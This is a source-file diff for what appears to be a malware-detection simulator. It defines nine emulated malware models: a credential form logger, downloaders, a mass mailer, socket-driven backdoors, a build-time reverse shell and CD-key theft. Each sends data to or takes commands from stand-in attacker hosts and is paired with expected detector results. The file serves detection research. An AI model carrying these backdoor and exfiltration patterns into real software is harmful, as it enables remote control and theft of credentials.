@@ -1,0 +1,561 @@
+#include "workloads/Characterize.hh"
+
+#include <algorithm>
+
+#include "workloads/GuestLib.hh"
+
+namespace hth::workloads
+{
+
+using namespace os;
+
+namespace
+{
+
+/** Wire a generic "attacker command" remote client for a backdoor
+ * that listens on @p addr: it sends one command and hangs up. */
+void
+wireBackdoorAttacker(Kernel &k, const std::string &addr,
+                     const std::string &command)
+{
+    RemotePeer attacker;
+    attacker.name = "gateway:31337";
+    attacker.onConnect = [command](RemoteConn &c) {
+        c.send(command);
+    };
+    auto replied = std::make_shared<bool>(false);
+    attacker.onData = [replied](RemoteConn &c, const std::string &) {
+        if (*replied)
+            return;
+        *replied = true;
+        c.close();
+    };
+    k.net().addRemoteClient(addr, attacker);
+}
+
+/** A drop server that sends @p payload when connected to. */
+void
+wireDropServer(Kernel &k, const std::string &host, int port,
+               const std::string &payload)
+{
+    k.net().addHost(host);
+    const std::string addr = host + ":" + std::to_string(port);
+    RemotePeer server;
+    server.name = addr;
+    server.onConnect = [payload](RemoteConn &c) { c.send(payload); };
+    k.net().addRemoteServer(addr, server);
+}
+
+/** Common backdoor skeleton: bind hard-coded addr, accept, read a
+ * command, exec it (name straight off the socket). */
+void
+emitBackdoor(Gasm &a, const std::string &bind_sym)
+{
+    a.sockCreate();
+    a.mov(Reg::Ebp, Reg::Eax);
+    a.leaSym(Reg::Edx, bind_sym);
+    a.sockBind(Reg::Ebp, Reg::Edx);
+    a.sockListen(Reg::Ebp);
+    a.sockAccept(Reg::Ebp);
+    a.mov(Reg::Ebp, Reg::Eax);
+    a.leaSym(Reg::Edx, "cmdbuf");
+    a.sockRecv(Reg::Ebp, Reg::Edx, 63);
+    a.leaSym(Reg::Ebx, "cmdbuf");
+    a.execveReg(Reg::Ebx);
+}
+
+} // namespace
+
+PatternRow
+derivePatterns(const Scenario &scenario, const ScenarioResult &result)
+{
+    PatternRow row;
+    row.noUserIntervention =
+        result.flagged && scenario.argv.size() <= 1 &&
+        scenario.stdinData.empty();
+    row.remotelyDirected =
+        result.report.transcript.find("a server with the address") !=
+            std::string::npos ||
+        result.report.transcript.find("originated from a socket") !=
+            std::string::npos ||
+        [&] {
+            for (const auto &w : result.report.warnings)
+                if (w.rule == "check_execve" &&
+                    w.severity == secpert::Severity::High)
+                    return true;
+            return false;
+        }();
+    row.hardcodedResources = result.hardcodedResources;
+    row.degradingPerformance =
+        result.degradedPerformance || result.heapGrowth > 0x400000;
+    return row;
+}
+
+std::vector<CharacterizedExploit>
+characterizationModels()
+{
+    std::vector<CharacterizedExploit> out;
+
+    //
+    // 1. PWSteal.Tarno.Q — logs form input, ships it to a fixed URL.
+    //
+    {
+        Gasm a("/models/pwsteal_tarno");
+        a.dataString("logname", "websecrets.dat");
+        a.dataString("dropaddr", "drop.tarno.example:80");
+        a.dataString("forms", "captured_forms.dat");
+        a.dataSpace("keys", 64);
+        a.dataSpace("cmdbuf", 64);
+        a.label("main");
+        a.entry("main");
+        // The browser-helper hook hands over captured form input
+        // (the watched-page keystroke log).
+        a.openSym("forms", GO_RDONLY);
+        a.mov(Reg::Esi, Reg::Eax);
+        a.readFd(Reg::Esi, "keys", 63);
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.closeFd(Reg::Esi);
+        a.creatSym("logname");
+        a.mov(Reg::Esi, Reg::Eax);
+        a.mov(Reg::Ebx, Reg::Esi);
+        a.leaSym(Reg::Ecx, "keys");
+        a.mov(Reg::Edx, Reg::Ebp);
+        a.sysc(NR_write);
+        a.closeFd(Reg::Esi);
+        // Periodically ship the log to the fixed URL.
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "dropaddr");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Eax, "logname");
+        a.openReg(Reg::Eax, GO_RDONLY);
+        a.mov(Reg::Esi, Reg::Eax);
+        a.readFd(Reg::Esi, "keys", 63);
+        a.mov(Reg::Edx, Reg::Eax);
+        a.leaSym(Reg::Ecx, "keys");
+        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+        a.exit(0);
+        auto image = a.build();
+
+        CharacterizedExploit ce;
+        ce.scenario.id = "PWSteal.Tarno.Q";
+        ce.scenario.description = "form logger with fixed drop URL";
+        ce.scenario.path = image->path;
+        ce.scenario.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+            k.vfs().addFile("captured_forms.dat",
+                            "bank.example user=alice pass=hunter2\n");
+            wireDropServer(k, "drop.tarno.example", 80, "");
+        };
+        ce.scenario.expectMalicious = true;
+        // Keystrokes arrive via the browser, not the command line:
+        // the model leaves stdin empty (captures nothing typed) but
+        // still logs the watched-page markers.
+        ce.expected = {true, false, true, false};
+        out.push_back(std::move(ce));
+    }
+
+    //
+    // 2. Trojan.Lodeight.A — downloads and runs a file, opens a
+    // backdoor on TCP 1084.
+    //
+    {
+        Gasm a("/models/trojan_lodeight");
+        a.dataString("dlsite", "update.lodeight.example:80");
+        a.dataString("dropname", "beagle.exe");
+        a.dataString("backdoor", "LocalHost:1084");
+        a.dataSpace("payload", 64);
+        a.dataSpace("cmdbuf", 64);
+        a.label("main");
+        a.entry("main");
+        // Download the remote file and store it.
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "dlsite");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Edx, "payload");
+        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
+        a.mov(Reg::Edi, Reg::Eax);
+        a.creatSym("dropname");
+        a.mov(Reg::Esi, Reg::Eax);
+        a.mov(Reg::Ebx, Reg::Esi);
+        a.leaSym(Reg::Ecx, "payload");
+        a.mov(Reg::Edx, Reg::Edi);
+        a.sysc(NR_write);
+        a.closeFd(Reg::Esi);
+        // Open the backdoor and take one command.
+        emitBackdoor(a, "backdoor");
+        a.exit(0);
+        auto image = a.build();
+
+        CharacterizedExploit ce;
+        ce.scenario.id = "Trojan.Lodeight.A";
+        ce.scenario.description = "downloader plus TCP 1084 backdoor";
+        ce.scenario.path = image->path;
+        ce.scenario.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+            wireDropServer(k, "update.lodeight.example", 80,
+                           "MZ-beagle-worm-bytes");
+            wireBackdoorAttacker(k, "LocalHost:1084", "/bin/restart");
+        };
+        ce.scenario.expectMalicious = true;
+        ce.expected = {true, true, true, false};
+        out.push_back(std::move(ce));
+    }
+
+    //
+    // 3. W32.Mytob.J@mm — copies itself to the system folder, mails
+    // itself, IRC-controlled backdoor.
+    //
+    {
+        Gasm a("/models/w32_mytob");
+        a.dataString("self_copy", "C:/WINDOWS/system32/mytob.exe");
+        a.dataString("self_bytes", "MZ-mytob-worm-image-bytes");
+        a.dataString("smtp", "mail.victim.example:25");
+        a.dataString("irc", "irc.evilnet.example:6667");
+        a.dataSpace("cmdbuf", 64);
+        a.label("main");
+        a.entry("main");
+        // Copy itself into the system folder.
+        a.creatSym("self_copy");
+        a.mov(Reg::Esi, Reg::Eax);
+        a.writeFd(Reg::Esi, "self_bytes", 25);
+        a.closeFd(Reg::Esi);
+        // Mail itself.
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "smtp");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Ecx, "self_bytes");
+        a.movi(Reg::Edx, 25);
+        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+        // Join the IRC channel and obey one command.
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "irc");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Edx, "cmdbuf");
+        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
+        a.leaSym(Reg::Ebx, "cmdbuf");
+        a.execveReg(Reg::Ebx);
+        a.exit(0);
+        auto image = a.build();
+
+        CharacterizedExploit ce;
+        ce.scenario.id = "W32.Mytob.J@mm";
+        ce.scenario.description = "mass mailer with IRC backdoor";
+        ce.scenario.path = image->path;
+        ce.scenario.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+            wireDropServer(k, "mail.victim.example", 25, "");
+            wireDropServer(k, "irc.evilnet.example", 6667,
+                           "/bin/download_and_run");
+        };
+        ce.scenario.expectMalicious = true;
+        ce.expected = {true, true, true, false};
+        out.push_back(std::move(ce));
+    }
+
+    //
+    // 4. Trojan.Vundo — adware that degrades the machine by eating
+    // virtual memory while showing pop-ups.
+    //
+    {
+        Gasm a("/models/trojan_vundo");
+        a.dataString("ad", "!!! CONGRATULATIONS, YOU WON !!!\n");
+        a.dataString("dll", "C:/WINDOWS/system32/vundo.dll");
+        a.dataString("dlsite", "63.246.131.30:80");
+        a.dataSpace("payload", 64);
+        a.label("main");
+        a.entry("main");
+        // Download the adware component, save it.
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "dlsite");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Edx, "payload");
+        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
+        a.mov(Reg::Edi, Reg::Eax);
+        a.creatSym("dll");
+        a.mov(Reg::Esi, Reg::Eax);
+        a.mov(Reg::Ebx, Reg::Esi);
+        a.leaSym(Reg::Ecx, "payload");
+        a.mov(Reg::Edx, Reg::Edi);
+        a.sysc(NR_write);
+        a.closeFd(Reg::Esi);
+        // Pop-ups.
+        a.writeSym(1, "ad", 33);
+        // Eat virtual memory: grow brk by 16 MB.
+        a.movi(Reg::Ebp, 0);
+        a.label("eat");
+        a.movi(Reg::Ebx, 0);
+        a.sysc(NR_brk);                 // current brk
+        a.mov(Reg::Ebx, Reg::Eax);
+        a.movi(Reg::Ecx, 0x100000);
+        a.add(Reg::Ebx, Reg::Ecx);
+        a.sysc(NR_brk);
+        a.addi(Reg::Ebp, 1);
+        a.cmpi(Reg::Ebp, 16);
+        a.jl("eat");
+        a.exit(0);
+        auto image = a.build();
+
+        CharacterizedExploit ce;
+        ce.scenario.id = "Trojan.Vundo";
+        ce.scenario.description = "adware degrading virtual memory";
+        ce.scenario.path = image->path;
+        ce.scenario.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+            wireDropServer(k, "63.246.131.30", 80,
+                           "vundo-adware-component");
+        };
+        ce.scenario.expectMalicious = true;
+        ce.expected = {true, false, true, true};
+        out.push_back(std::move(ce));
+    }
+
+    //
+    // 5. Windows-update.com — fake update site dropping a
+    // configuration-driven trojan chain.
+    //
+    {
+        Gasm a("/models/windows_update_com");
+        a.dataString("fake_site", "windows-update.example:80");
+        a.dataString("cfg_site", "lol.ifud.cc:80");
+        a.dataString("dropname", "wupdate.exe");
+        a.dataSpace("payload", 64);
+        a.dataSpace("cfg", 32);
+        a.label("main");
+        a.entry("main");
+        // Stage 1: the fake site serves an executable.
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "fake_site");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Edx, "payload");
+        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
+        a.mov(Reg::Edi, Reg::Eax);
+        a.creatSym("dropname");
+        a.mov(Reg::Esi, Reg::Eax);
+        a.mov(Reg::Ebx, Reg::Esi);
+        a.leaSym(Reg::Ecx, "payload");
+        a.mov(Reg::Edx, Reg::Edi);
+        a.sysc(NR_write);
+        a.closeFd(Reg::Esi);
+        // Stage 2: configuration from the predefined site.
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "cfg_site");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Edx, "cfg");
+        a.sockRecv(Reg::Ebp, Reg::Edx, 31);
+        // Stage 3: run the configured trojan (name from the net).
+        a.leaSym(Reg::Ebx, "cfg");
+        a.execveReg(Reg::Ebx);
+        a.exit(0);
+        auto image = a.build();
+
+        CharacterizedExploit ce;
+        ce.scenario.id = "Windows-update.com";
+        ce.scenario.description = "fake update site trojan chain";
+        ce.scenario.path = image->path;
+        ce.scenario.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+            wireDropServer(k, "windows-update.example", 80,
+                           "MZ-dropper-bytes");
+            wireDropServer(k, "lol.ifud.cc", 80, "/trojans/custom7");
+        };
+        ce.scenario.expectMalicious = true;
+        ce.expected = {true, true, true, false};
+        out.push_back(std::move(ce));
+    }
+
+    //
+    // 6. W32/MyDoom.B — registry persistence plus a TCP backdoor.
+    //
+    {
+        Gasm a("/models/w32_mydoom");
+        a.dataString("registry", "C:/WINDOWS/registry");
+        a.dataString("runkey",
+                     "HKLM/Run/ctfmon = C:/WINDOWS/ctfmon.dll\n");
+        a.dataString("backdoor", "LocalHost:3127");
+        a.dataSpace("cmdbuf", 64);
+        a.label("main");
+        a.entry("main");
+        a.openSym("registry", GO_CREAT | GO_WRONLY);
+        a.mov(Reg::Esi, Reg::Eax);
+        a.writeFd(Reg::Esi, "runkey", 41);
+        a.closeFd(Reg::Esi);
+        emitBackdoor(a, "backdoor");
+        a.exit(0);
+        auto image = a.build();
+
+        CharacterizedExploit ce;
+        ce.scenario.id = "W32/MyDoom.B";
+        ce.scenario.description = "registry persistence + backdoor";
+        ce.scenario.path = image->path;
+        ce.scenario.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+            wireBackdoorAttacker(k, "LocalHost:3127", "/bin/proxy");
+        };
+        ce.scenario.expectMalicious = true;
+        ce.expected = {true, true, true, false};
+        out.push_back(std::move(ce));
+    }
+
+    //
+    // 7. Phatbot — remote-controlled bot: sysinfo (CPUID!) and
+    // CD-key theft on command.
+    //
+    {
+        Gasm a("/models/phatbot");
+        a.dataString("p2p", "LocalHost:4387");
+        a.dataString("cdkeys", "C:/games/cdkeys.txt");
+        a.dataSpace("cmdbuf", 64);
+        a.dataSpace("sysinfo", 16);
+        a.dataSpace("keys", 64);
+        a.dataSpace("conn_slot", 4);
+        a.label("main");
+        a.entry("main");
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "p2p");
+        a.sockBind(Reg::Ebp, Reg::Edx);
+        a.sockListen(Reg::Ebp);
+        a.sockAccept(Reg::Ebp);
+        a.leaSym(Reg::Edi, "conn_slot");
+        a.store(Reg::Edi, 0, Reg::Eax);
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "cmdbuf");
+        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
+        // Command "sysinfo": CPUID -> socket.
+        a.cpuid();
+        a.leaSym(Reg::Esi, "sysinfo");
+        a.store(Reg::Esi, 0, Reg::Eax);
+        a.store(Reg::Esi, 4, Reg::Ebx);
+        a.store(Reg::Esi, 8, Reg::Ecx);
+        a.store(Reg::Esi, 12, Reg::Edx);
+        a.leaSym(Reg::Edi, "conn_slot");
+        a.load(Reg::Ebp, Reg::Edi, 0);
+        a.leaSym(Reg::Ecx, "sysinfo");
+        a.movi(Reg::Edx, 16);
+        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+        // Command "steal cdkeys": hard-coded file -> socket.
+        a.openSym("cdkeys", GO_RDONLY);
+        a.mov(Reg::Esi, Reg::Eax);
+        a.readFd(Reg::Esi, "keys", 63);
+        a.mov(Reg::Edx, Reg::Eax);
+        a.leaSym(Reg::Edi, "conn_slot");
+        a.load(Reg::Ebp, Reg::Edi, 0);
+        a.leaSym(Reg::Ecx, "keys");
+        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+        a.exit(0);
+        auto image = a.build();
+
+        CharacterizedExploit ce;
+        ce.scenario.id = "Phatbot";
+        ce.scenario.description = "remote-commanded bot";
+        ce.scenario.path = image->path;
+        ce.scenario.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+            k.vfs().addFile("C:/games/cdkeys.txt",
+                            "GAME-1234-KEY-5678\n");
+            wireBackdoorAttacker(k, "LocalHost:4387", "sysinfo\n");
+        };
+        ce.scenario.expectMalicious = true;
+        ce.expected = {true, true, true, false};
+        out.push_back(std::move(ce));
+    }
+
+    //
+    // 8. Sendmail distribution trojan — the build forks a process
+    // that hands a shell to a fixed server on port 6667.
+    //
+    {
+        Gasm a("/models/sendmail_trojan");
+        a.dataString("home", "aol.bagabox.example:6667");
+        a.dataString("built", "sendmail built.\n");
+        a.dataSpace("cmdbuf", 64);
+        a.label("main");
+        a.entry("main");
+        a.fork();
+        a.cmpi(Reg::Eax, 0);
+        a.jz("payload");
+        // The "build" itself proceeds normally.
+        a.writeSym(1, "built", 16);
+        a.exit(0);
+        a.label("payload");
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "home");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Edx, "cmdbuf");
+        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
+        a.leaSym(Reg::Ebx, "cmdbuf");
+        a.execveReg(Reg::Ebx);          // intruder's shell command
+        a.exit(0);
+        auto image = a.build();
+
+        CharacterizedExploit ce;
+        ce.scenario.id = "Sendmail Trojan";
+        ce.scenario.description = "build-time reverse shell";
+        ce.scenario.path = image->path;
+        ce.scenario.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+            wireDropServer(k, "aol.bagabox.example", 6667, "/bin/id");
+        };
+        ce.scenario.expectMalicious = true;
+        ce.expected = {true, true, true, false};
+        out.push_back(std::move(ce));
+    }
+
+    //
+    // 9. TCP Wrappers trojan — backdoor for source port 421 plus a
+    // build-time identification email (whoami / uname -a).
+    //
+    {
+        Gasm a("/models/tcp_wrappers");
+        a.dataString("mailhost", "mail.attacker.example:25");
+        a.dataString("backdoor", "LocalHost:421");
+        a.dataSpace("ident", 16);
+        a.dataSpace("cmdbuf", 64);
+        a.label("main");
+        a.entry("main");
+        // Build-time: identify the host (whoami / uname via the
+        // hardware-id model) and mail it out.
+        a.cpuid();
+        a.leaSym(Reg::Esi, "ident");
+        a.store(Reg::Esi, 0, Reg::Eax);
+        a.store(Reg::Esi, 4, Reg::Ebx);
+        a.store(Reg::Esi, 8, Reg::Ecx);
+        a.store(Reg::Esi, 12, Reg::Edx);
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "mailhost");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Ecx, "ident");
+        a.movi(Reg::Edx, 16);
+        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+        // Run time: the rarely used port-421 root shell.
+        emitBackdoor(a, "backdoor");
+        a.exit(0);
+        auto image = a.build();
+
+        CharacterizedExploit ce;
+        ce.scenario.id = "TCP Wrappers Trojan";
+        ce.scenario.description = "port-421 backdoor + ident email";
+        ce.scenario.path = image->path;
+        ce.scenario.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+            wireDropServer(k, "mail.attacker.example", 25, "");
+            wireBackdoorAttacker(k, "LocalHost:421", "/bin/sh421");
+        };
+        ce.scenario.expectMalicious = true;
+        ce.expected = {true, true, true, false};
+        out.push_back(std::move(ce));
+    }
+
+    return out;
+}
+
+} // namespace hth::workloads
